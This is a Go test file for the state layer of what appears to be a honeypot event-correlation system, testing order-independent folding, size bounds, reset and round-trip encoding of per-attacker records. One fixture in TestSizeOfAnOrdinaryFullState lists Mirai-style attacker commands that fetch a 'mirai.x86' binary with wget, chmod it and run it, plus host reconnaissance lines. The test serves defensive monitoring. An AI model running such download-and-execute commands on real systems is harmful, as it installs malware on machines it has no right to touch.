package state

import (
	"bytes"
	"compress/flate"
	"crypto/sha256"
	"errors"
	"fmt"
	"math/rand/v2"
	"net/netip"
	"reflect"
	"strings"
	"testing"

	"dossier/correlate/event"
	"dossier/correlate/law"

	"github.com/tinylib/msgp/msgp"
)

// randomEvent returns an event of any shape a dialect can give.
func randomEvent(r *rand.Rand) *event.Event {
	ev := &event.Event{
		Time: event.Time(1_760_000_000_000_000 + r.Int64N(400)*500_000), Addr: netip.MustParseAddr("203.0.113.7"),
		Decky: pick(r, "", "decky-01", "decky-02", "decky-03"), Service: pick(r, "", "ssh", "http", "smtp"),
		Type: pick(r, "connect", "command", "auth_attempt"), Kind: event.Kind(r.IntN(3)), Role: event.Role(r.IntN(3)),
		Phase: event.Phase(r.IntN(4)), Proof: event.Proof(r.IntN(4)), Large: r.IntN(9) == 0, Port: uint16(r.IntN(3) * r.IntN(9)), Transport: event.Transport(r.IntN(3)),
		Naming: event.Naming(r.IntN(3)), Session: uint64(1 + r.IntN(60)),
	}
	for range r.IntN(4) {
		e := event.Evidence{
			Kind: event.EvidenceKind(1 + r.IntN(int(event.Forward))), Outcome: event.Outcome(r.IntN(3)),
			N: r.Int64N(200), M: r.Int64N(20), A: fmt.Sprint("a", r.IntN(30)), B: pick(r, "", "plaintext", "x"), C: pick(r, "", "c", "cc"),
		}
		e.Digest = sha256.Sum256([]byte(e.C))
		for range r.IntN(3) {
			e.Payload = append(e.Payload, event.Field{Key: pick(r, "k", "ipid_class", "window"), Value: fmt.Sprint(r.IntN(50))})
		}
		ev.Evidence = append(ev.Evidence, e)
	}
	return ev
}

func pick[T any](r *rand.Rand, s ...T) T { return s[r.IntN(len(s))] }

// The same events must give the same state in every order, cut anywhere, with
// the state written and read back in between.
func TestFoldIsFreeOfOrderAndCut(t *testing.T) {
	for seed := range uint64(300) {
		r := rand.New(rand.NewPCG(seed, 7))
		events := make([]*event.Event, 1+r.IntN(120))
		for i := range events {
			events[i] = randomEvent(r)
		}
		var want [3][]byte
		for shuffle := range 5 {
			var a event.Arena
			var att Attacker
			var tgt Target
			var act Activity
			att.By(testRank)
			tgt.By(testRank)
			act.By(testRank)
			for rest := events; len(rest) > 0; {
				n := 1 + r.IntN(len(rest))
				att.Fold(&a, "sensor-1", seed%2 == 0, rest[:n])
				tgt.Fold("sensor-1", "a3", rest[:n])
				act.Fold(&a, "sensor-1", rest[:n])
				rest = rest[n:]
				for _, s := range []interface {
					Append([]byte) []byte
					Decode([]byte) error
				}{&att, &tgt, &act} {
					if err := s.Decode(s.Append(nil)); err != nil {
						t.Fatalf("seed %d: %T: %v", seed, s, err)
					}
				}
			}
			for i, got := range [][]byte{att.Append(nil), tgt.Append(nil), act.Append(nil)} {
				if shuffle == 0 {
					want[i] = got
				} else if !bytes.Equal(got, want[i]) {
					t.Fatalf("seed %d, shuffle %d, state %d: the order of events shows", seed, shuffle, i)
				}
			}
			r.Shuffle(len(events), func(i, j int) { events[i], events[j] = events[j], events[i] })
		}
	}
}

// testRank is a Rank like any other.
var testRank = law.NewRank([law.RankKeySize]byte{3, 1, 4, 1, 5})

// Whatever an attacker sends, the state stays within its bounds and says what
// it cut.
func TestBounds(t *testing.T) {
	var a event.Arena
	var s Attacker
	long := strings.Repeat("x", event.MaxCommand)
	for i := range 20_000 {
		n := fmt.Sprint(i)
		at := event.Time(1_760_000_000_000_000 + int64(i)*1_000_000)
		ev := &event.Event{Time: at, Decky: "decky-" + n, Service: "svc" + n, Type: "command", Kind: event.Interaction, Proof: event.ByConnection, Evidence: []event.Evidence{
			{Kind: event.Command, A: n + long[len(n):]},
			{Kind: event.Login, A: "user" + n, B: "plaintext", C: long[:event.MaxValue], Digest: sha256.Sum256([]byte(n))},
			{Kind: event.Fingerprint, A: "ja3", B: n, Payload: []event.Field{{Key: "p", Value: long[:event.MaxPayload-64]}}},
			{Kind: event.Artifact, A: n, B: "http://" + long[:1000], C: "file"},
			{Kind: event.Leak, A: n, B: "X-Forwarded-For", C: "public"},
			{Kind: event.Session, A: n, N: int64(i)},
			{Kind: event.Recipient, A: n + ".example.org"},
			{Kind: event.Stack, A: "os" + n, N: int64(i), M: int64(i), Payload: []event.Field{{Key: "window", Value: n}}},
			{Kind: event.KexOrder, A: n + long[:900]},
			{Kind: event.Tool, A: "tool" + n},
			{Kind: event.Technique, A: "T" + n},
			{Kind: event.Alert, A: long[:900] + n, B: "category", N: 1},
		}}
		s.Fold(&a, "sensor-"+n, true, []*event.Event{ev})
		if i%500 == 499 {
			// Keep the test's own memory small: the state lets go of the
			// arena by being written and read.
			wire := s.Append(nil)
			a.Reset()
			if err := s.Decode(wire); err != nil {
				t.Fatal(err)
			}
		}
	}
	for name, got := range map[string][2]int{
		"services":    {s.Services.Len(), LimitServices.Keys},
		"deckies":     {s.Deckies.Len(), LimitDeckies.Keys},
		"sessions":    {s.Sessions.Len(), LimitSessions},
		"sensors":     {s.Sensors.Len(), LimitSensors.Keys},
		"hops":        {len(s.Hops.Items()), LimitHops.Keys},
		"times":       {len(s.Times.List()), LimitTimes},
		"domains":     {s.Domains.Len(), LimitDomains},
		"credentials": {s.Credentials.Len(), LimitCredentials.Keys},
	} {
		if got[0] > got[1] || got[0] == 0 {
			t.Errorf("%s: %d kept, bound %d", name, got[0], got[1])
		}
	}
	for name, cut := range map[string]bool{
		"services": s.Services.Truncated(), "deckies": s.Deckies.Truncated(), "hops": s.Hops.Truncated(), "times": s.Times.Truncated(),
		"commands": s.Commands.Truncated(), "credentials": s.Credentials.Truncated(), "fingerprints": s.Fingerprints.Truncated(),
		"artifacts": s.Artifacts.Truncated(), "leaks": s.Leaks.Truncated(), "sessions": s.Sessions.Truncated(), "sensors": s.Sensors.Truncated(),
		"tools": s.Tools.Truncated(), "techniques": s.Techniques.Truncated(), "alerts": s.Alerts.Truncated(),
	} {
		if !cut {
			t.Errorf("%s: cut, but it doesn't say so", name)
		}
	}
	if s.Events != 20_000 || s.CommandCount != 20_000 || s.Attempts != 20_000 {
		t.Errorf("counts %d, %d, %d; want 20000 each", s.Events, s.CommandCount, s.Attempts)
	}
}

// Reset forgets everything but memory, whatever fields there are.
func TestResetForgetsEverything(t *testing.T) {
	s := full(t, 200)
	wire := s.Append(nil)
	wire[4]++ // one more name
	if err := s.Decode(msgp.AppendInt(msgp.AppendString(wire, "zz"), 1)); err != nil {
		t.Fatal(err)
	}
	s.Fold(new(event.Arena), "s", true, []*event.Event{{
		Time: s.First, Proof: event.ByConnection, Large: true, Phase: event.Recon | event.Exfil, Addr: netip.MustParseAddr("::1"),
		Evidence: []event.Evidence{{Kind: event.Retransmits, N: 1}},
	}})
	for i := range s.Kinds {
		s.Kinds[i]++
	}
	s.Crowd.Chunk[0], s.IndicatorCrowd.Chunk[0] = 1, 1
	s.Turns.Add(1, "s", "id")
	s.Untold, s.shellCut = 1, true
	s.Stack = law.Latest{Time: 1, Value: "x"}
	v := reflect.ValueOf(s).Elem()
	for i := range v.NumField() {
		if f := v.Field(i); f.IsZero() {
			t.Errorf("the test leaves %s zero", v.Type().Field(i).Name)
		}
	}
	s.Reset()
	var rest func(path string, v reflect.Value)
	rest = func(path string, v reflect.Value) {
		switch v.Kind() {
		case reflect.Struct:
			for i := range v.NumField() {
				rest(path+"."+v.Type().Field(i).Name, v.Field(i))
			}
		case reflect.Slice:
			if v.Len() > 0 && path != ".carried.slots" {
				t.Errorf("%s has %d elements", path, v.Len())
			}
		default:
			if !v.IsZero() && path != ".changes" && !strings.Contains(path, "by.k") && !strings.Contains(path, "rank.k") {
				t.Errorf("%s is %v", path, v)
			}
		}
	}
	rest("", v)
	if got := s.Append(nil); !bytes.Equal(got, new(Attacker).Append(nil)) {
		t.Errorf("%x", got)
	}
}

// noise returns n characters that can't be packed, another text for each i.
func noise(i, n int) string {
	var seed [32]byte
	copy(seed[:], fmt.Sprint(i, "/", n))
	r := rand.NewChaCha8(seed)
	b := make([]byte, n)
	for j := range b {
		b[j] = byte(0x21 + r.Uint64()%94)
	}
	return string(b)
}

// full returns the state of an attacker who fills every list with texts of
// about size characters that can't be packed, as far as a text may be as long.
func full(t *testing.T, size int) *Attacker {
	t.Helper()
	a, s := new(event.Arena), new(Attacker)
	s.By(testRank)
	text := func(i, limit int) string { return noise(i, min(size, limit)) }
	for i := range 700 {
		n := fmt.Sprint(i)
		ev := &event.Event{
			// Far apart: what lies between takes most.
			Time: event.Time(1_000_000_000_000_000 + int64(i)*997_000_000_123), Addr: netip.AddrFrom16([16]byte{0x20, 1, 0xd, 0xb8, 14: byte(i >> 8), 15: byte(i)}),
			Decky: text(i, event.MaxName), Service: text(i, event.MaxService), Type: text(i, event.MaxService), Kind: event.Interaction, Proof: event.ByConnection, Port: uint16(1 + i*89), Transport: event.Transport(i % 3),
			Evidence: []event.Evidence{
				{Kind: event.Command, A: text(i, event.MaxCommand), N: 1},
				{Kind: event.Login, A: text(i, event.MaxValue), B: text(i, event.MaxService), C: text(-i, event.MaxValue), Digest: sha256.Sum256([]byte(n)), Outcome: event.Success},
				{Kind: event.Fingerprint, A: "ja3", B: text(i, event.MaxValue), Payload: []event.Field{{Key: "p", Value: text(-i, event.MaxPayload-16)}}},
				{Kind: event.Artifact, A: noise(i, 64), B: text(i, event.MaxValue), C: "file", Payload: []event.Field{{Key: "p", Value: text(-i, event.MaxPayload-16)}}},
				{Kind: event.Leak, A: noise(i, 15), B: text(i, event.MaxService), C: "public"},
				{Kind: event.Session, A: n, N: int64(i)},
				{Kind: event.Recipient, A: n + ".example.org"},
				{Kind: event.Stack, A: text(i, event.MaxService), N: int64(i), M: int64(i), Payload: []event.Field{
					{Key: "ipid_class", Value: text(i, 32)}, {Key: "isn_class", Value: text(i, 32)}, {Key: "options_sig", Value: text(i, event.MaxValue-128)},
				}},
				{Kind: event.Stack, A: text(i, event.MaxService), Payload: []event.Field{{Key: "options_sig", Value: text(i, event.MaxPayload)}}},
				{Kind: event.KexOrder, A: text(i, event.MaxValue)},
				{Kind: event.Tool, A: text(i, event.MaxService), B: text(-i, event.MaxService)},
				{Kind: event.Technique, A: text(i, 9), B: text(-i, event.MaxValue)},
				{Kind: event.Indicator, A: event.IndicatorKinds()[i%9], B: text(i, event.MaxValue), C: "command"},
				{Kind: event.Forward, A: text(i, event.MaxValue), B: "direct-tcpip"},
				{Kind: event.Alert, A: text(i, event.MaxValue), B: text(-i, event.MaxValue), N: 1},
			},
		}
		waits, names := *ev, event.Event{Time: ev.Time, Service: "telnet", Kind: event.Scan, Proof: event.ByConnection, Naming: event.Names, Session: uint64(i+1) << 40}
		waits.Naming, waits.Service, waits.Session = event.Guessed, event.GuessedService, uint64(i+1)<<40
		claimed, told, login := *ev, *ev, *ev
		claimed.Proof, told.Proof, login.Service = event.Claimed, event.ByShell, "ssh"
		login.Evidence = login.Evidence[1:2]
		s.Fold(a, text(i, event.MaxName), true, []*event.Event{ev, &claimed, &told, &login, &waits, &names, {Time: ev.Time, Role: event.Contact}})
		if i%250 == 249 {
			if err := s.Decode(s.Append(nil)); err != nil {
				t.Fatal(err)
			}
		}
	}
	for i := range LimitTransitions.Keys {
		s.Transitions = append(s.Transitions, Transition{Action: "login_success", Value: noise(i, 11), Time: s.Last})
	}
	s.Crowd.Share, s.IndicatorCrowd.Share = 0.5, 0.5
	return s
}

// With every list full of what can't be packed, and names as long as they may
// be, the state stays within MaxAttacker, and Size never says less than it is.
func TestSizeIsBounded(t *testing.T) {
	worst := 0
	for _, size := range []int{1, 7, 16, 31, 60, 120, 200, 255, 1024, 4096} {
		s := full(t, size)
		got := len(s.Append(nil))
		worst = max(worst, got)
		if got > s.Size() || s.Size() > MaxAttacker {
			t.Errorf("texts of %d: %d bytes, said to be at most %d, of at most %d", size, got, s.Size(), MaxAttacker)
		}
	}
	t.Logf("at most %d bytes; the bound is %d", worst, MaxAttacker)
	if worst < MaxAttacker*2/3 {
		t.Errorf("the bound of %d is far from the worst case found, %d: is every list full?", MaxAttacker, worst)
	}
}

// What attackers really send fits into 64 KiB with every list full, the ids of
// 512 chunks included.
func TestSizeOfAnOrdinaryFullState(t *testing.T) {
	a, s := new(event.Arena), new(Attacker)
	commands := []string{"cd /tmp || cd /var/run || cd /mnt || cd /root", "wget http://198.51.100.%d/bins/mirai.x86 -O /tmp/.x%d", "chmod 777 .x%d; ./.x%d ssh.wget", "cat /proc/cpuinfo | grep name | wc -l", "uname -s -v -n -r -m", "echo -e \"\\x6b\\x61\\x6d%d\" > /tmp/.nippon"}
	for i := range 2000 {
		n := fmt.Sprint(i)
		sum := sha256.Sum256([]byte(n))
		digest := fmt.Sprintf("%x", sum)
		ev := &event.Event{
			Time: event.Time(1_760_000_000_000_000 + int64(i)*37_123_457), Decky: fmt.Sprintf("decky-%03d", i%300), Service: fmt.Sprint("svc", i%40), Type: "command", Kind: event.Interaction, Proof: event.ByConnection,
			Evidence: []event.Evidence{
				{Kind: event.Command, A: strings.ReplaceAll(commands[i%len(commands)], "%d", n)},
				{Kind: event.Login, A: []string{"root", "admin", "ubuntu", "pi"}[i%4], B: "plaintext", C: "pass" + n, Digest: sum},
				{Kind: event.Fingerprint, A: "ja3", B: digest[:32], Payload: []event.Field{{Key: "ja4", Value: "t13d1516h2_8daaf6152771_" + digest[:12]}, {Key: "tls_version", Value: "TLS 1.3"}, {Key: "raw_ciphers", Value: "4865-4866-4867-49195-49199-49196-49200-52393-52392-49171-49172-156-157-47-53"}}},
				{Kind: event.Artifact, A: digest, B: "http://198.51.100.7/bins/x" + n, C: "file"},
				{Kind: event.Leak, A: fmt.Sprintf("203.0.%d.%d", i%250, i/250), B: "X-Forwarded-For", C: "public"},
				{Kind: event.Session, A: n, N: int64(i)},
				{Kind: event.Recipient, A: n + ".example.org"},
				{Kind: event.Stack, A: "linux", N: int64(40 + i%20), M: int64(i % 16), Payload: []event.Field{{Key: "window", Value: n}}},
				{Kind: event.KexOrder, A: "curve25519-sha256,ecdh-sha2-nistp256,diffie-hellman-group14-sha" + n},
				{Kind: event.Technique, A: fmt.Sprint("T1", i%60), B: "fetches a file with wget or curl"},
				{Kind: event.Alert, A: "ET SCAN Potential SSH Scan OUTBOUND " + n, B: "Attempted Information Leak", N: 2},
			},
		}
		s.Fold(a, fmt.Sprint("sensor-", i%20), false, []*event.Event{ev})
	}
	var packed bytes.Buffer
	w, err := flate.NewWriter(&packed, flate.BestSpeed)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := w.Write(s.Append(nil)); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	const ids = 512 * 24
	t.Logf("%d bytes, packed %d, with the ids of 512 chunks %d", len(s.Append(nil)), packed.Len(), packed.Len()+ids)
	if packed.Len()+ids > 64<<10 {
		t.Errorf("%d bytes packed, with ids; want at most %d", packed.Len()+ids, 64<<10)
	}
	// What is ordinary isn't cut below the number of keys that lists may have.
	for name, got := range map[string][2]int{
		"commands": {len(s.Commands.Items()), LimitCommands.Keys}, "credentials": {s.Credentials.Len(), LimitCredentials.Keys},
		"times": {len(s.Times.List()), LimitTimes}, "hops": {len(s.Hops.Items()), LimitHops.Keys},
	} {
		if got[0] < got[1]*19/20 {
			t.Errorf("%s: %d kept of at most %d", name, got[0], got[1])
		}
	}
	if n := s.Deckies.Len(); n < 240 {
		t.Errorf("deckies: %d kept", n)
	}
}

// What a newer minor version added goes back as it came.
func TestUnknownNamesAreCarriedThrough(t *testing.T) {
	var a event.Arena
	var s Attacker
	s.Fold(&a, "s", false, []*event.Event{randomEvent(rand.New(rand.NewPCG(1, 1)))})
	wire := s.Append(nil)
	wire[4] += 2 // two more names
	wire = msgp.AppendString(wire, "zz")
	wire = appendNew(wire)
	wire = msgp.AppendString(wire, "zy")
	wire = msgp.AppendInt(wire, 7)
	if err := s.Decode(wire); err != nil {
		t.Fatal(err)
	}
	s.Fold(&a, "s", false, []*event.Event{randomEvent(rand.New(rand.NewPCG(2, 2)))})
	m, _, err := msgp.ReadMapStrIntfBytes(s.Append(nil), nil)
	if err != nil {
		t.Fatal(err)
	}
	if fmt.Sprint(m["zz"]) != "map[new:[1 two]]" || fmt.Sprint(m["zy"]) != "7" {
		t.Errorf("zz = %v, zy = %v", m["zz"], m["zy"])
	}
}

func TestDecodeRefusesGarbage(t *testing.T) {
	for _, b := range [][]byte{nil, {0xc0}, {0x81}, {0x81, 0xa1, 'n', 0xa1, 'x'}, {0x80, 0x00}, {0xdf, 0xff, 0xff, 0xff, 0xff}} {
		var s Attacker
		if err := s.Decode(b); !errors.Is(err, ErrCorrupt) {
			t.Errorf("% x: %v; want ErrCorrupt", b, err)
		}
	}
}

func FuzzDecode(f *testing.F) {
	var a event.Arena
	var s Attacker
	r := rand.New(rand.NewPCG(1, 1))
	for range 20 {
		s.Fold(&a, "s", false, []*event.Event{randomEvent(r)})
	}
	f.Add(s.Append(nil))
	f.Add([]byte{0x80})
	f.Fuzz(func(t *testing.T, data []byte) {
		for _, s := range []interface {
			Append([]byte) []byte
			Decode([]byte) error
		}{&Attacker{}, &Target{}, &Activity{}, &Indicator{}} {
			if s.Decode(data) != nil {
				continue
			}
			if err := s.Decode(s.Append(nil)); err != nil {
				t.Fatalf("%T: own encoding refused: %v", s, err)
			}
		}
	})
}

func appendNew(b []byte) []byte {
	b = msgp.AppendMapHeader(b, 1)
	b = msgp.AppendString(b, "new")
	b = msgp.AppendArrayHeader(b, 2)
	b = msgp.AppendInt(b, 1)
	return msgp.AppendString(b, "two")
}

// With its lists full, cut by rank, by share and by bytes, the state is the
// same for every order of its events and every cut of chunks, written and read
// in between.
func TestFullStatesAreFreeOfOrderAndCut(t *testing.T) {
	seeds := uint64(6)
	if testing.Short() {
		seeds = 2
	}
	for seed := range seeds {
		r := rand.New(rand.NewPCG(seed, 21))
		var events []*event.Event
		for i := range 1200 {
			n := fmt.Sprint(r.IntN(700))
			text := n + strings.Repeat("x", r.IntN(1+i%500))
			kind := pick(r, "hassh", "ja3", "http_useragent", "x")
			events = append(events, &event.Event{
				Time: event.Time(1_760_000_000_000_000 + r.Int64N(300)*1_000_000), Addr: netip.MustParseAddr("2001:db8::7"),
				Decky: "decky-" + n, Service: pick(r, "ssh", "http"), Type: "x", Kind: event.Interaction,
				Proof:  pick(r, event.ByConnection, event.ByConnection, event.BySession, event.ByShell, event.Claimed),
				Naming: event.Naming(r.IntN(3)), Session: uint64(1 + r.IntN(600)),
				Evidence: []event.Evidence{
					{Kind: event.Command, A: text, N: int64(i % 2)},
					{Kind: event.Login, A: "u" + n, B: "plaintext", C: text, Digest: sha256.Sum256([]byte(text)), Outcome: event.Outcome(r.IntN(3))},
					{Kind: event.Fingerprint, A: kind, B: text, Payload: []event.Field{{Key: "p", Value: text}, {Key: "q", Value: n}}},
					{Kind: event.Artifact, A: pick(r, "", n), B: pick(r, "", "http://x/"+text), C: pick(r, "file", "mail", "url")},
					{Kind: event.Leak, A: n, B: "X-Forwarded-For", C: pick(r, "public", "private")},
					{Kind: event.Session, A: text},
					{Kind: event.Recipient, A: n + ".example"},
					{Kind: event.KexOrder, A: text},
					{Kind: event.Alert, A: text, B: "c", N: int64(1 + i%3)},
					{Kind: event.Technique, A: "T" + n, B: text},
					{Kind: event.Indicator, A: event.IndicatorKinds()[i%9], B: text, C: "command"},
					{Kind: event.Forward, A: text, B: "direct-tcpip"},
				},
			})
		}
		var want [3][]byte
		for shuffle := range 3 {
			var a event.Arena
			att, tgt, act := new(Attacker), new(Target), new(Activity)
			for _, s := range []interface{ By(law.Rank) }{att, tgt, act} {
				s.By(testRank)
			}
			for rest := events; len(rest) > 0; {
				n := min(len(rest), 1+r.IntN(400))
				att.Fold(&a, "sensor-1", true, rest[:n])
				tgt.Fold("sensor-1", "7.example", rest[:n])
				act.Fold(&a, "sensor-1", rest[:n])
				rest = rest[n:]
				for _, s := range []interface {
					Append([]byte) []byte
					Decode([]byte) error
				}{att, tgt, act} {
					if err := s.Decode(s.Append(nil)); err != nil {
						t.Fatalf("seed %d: %T: %v", seed, s, err)
					}
				}
			}
			if !att.Credentials.Full() || !att.Fingerprints.Full() || !att.Artifacts.Full() || !att.Admitted.Full() || !att.Known.Full() || !act.Tried.Full() || !att.Domains.Full() || !att.Indicators.Full() || !att.IndicatorCount.Full() || !att.Forwards.Full() ||
				!att.Claimed.Evidence.Full() || !att.Unnamed.Events.Truncated() || !act.Unnamed.Events.Truncated() || !att.Claimed.Deckies.Full() || !att.Claimed.Shell.Truncated() {
				t.Fatalf("seed %d: lists aren't full", seed)
			}
			if att.Size() > MaxAttacker {
				t.Errorf("seed %d: %d bytes of at most %d", seed, att.Size(), MaxAttacker)
			}
			for i, got := range [][]byte{att.Append(nil), tgt.Append(nil), act.Append(nil)} {
				if shuffle == 0 {
					want[i] = got
				} else if !bytes.Equal(got, want[i]) {
					t.Fatalf("seed %d, shuffle %d, state %d: the order of events shows", seed, shuffle, i)
				}
			}
			r.Shuffle(len(events), func(i, j int) { events[i], events[j] = events[j], events[i] })
		}
	}
}

// A version from before there was a Rank carries full lists through and begins
// them anew; what it writes there is taken in by the next that reads both.
func TestOlderVersionsWriteBesideFullLists(t *testing.T) {
	var a event.Arena
	login := func(i int) *event.Event {
		n := fmt.Sprint(i)
		return &event.Event{Time: event.Time(1_760_000_000_000_000 + i), Service: "ssh", Kind: event.Scan, Evidence: []event.Evidence{
			{Kind: event.Login, A: "root", B: "plaintext", C: n, Digest: sha256.Sum256([]byte(n)), Outcome: event.Failure},
		}}
	}
	s := new(Attacker)
	s.By(testRank)
	for i := range 500 {
		s.Fold(&a, "one", false, []*event.Event{login(i)})
	}
	// What the older version adds, as it writes it: the list it can't read
	// begins empty. That is what this version writes of a list that isn't
	// full, under the plain name.
	beside := new(Attacker)
	for i := range 30 {
		beside.Fold(&a, "one", false, []*event.Event{login(490 + i)})
	}
	wire := s.Append(nil)
	wire[4]++
	wire = msgp.AppendString(wire, "cr")
	wire = beside.Credentials.Append(wire)
	got := new(Attacker)
	got.By(testRank)
	if err := got.Decode(wire); err != nil {
		t.Fatal(err)
	}
	for i := range 30 {
		s.Fold(&a, "one", false, []*event.Event{login(490 + i)})
	}
	if x, y := got.Credentials.Append(nil), s.Credentials.Append(nil); !bytes.Equal(x, y) {
		t.Errorf("what an older version wrote beside is not what this one would have made of it:\n%x\n%x", x, y)
	}
}
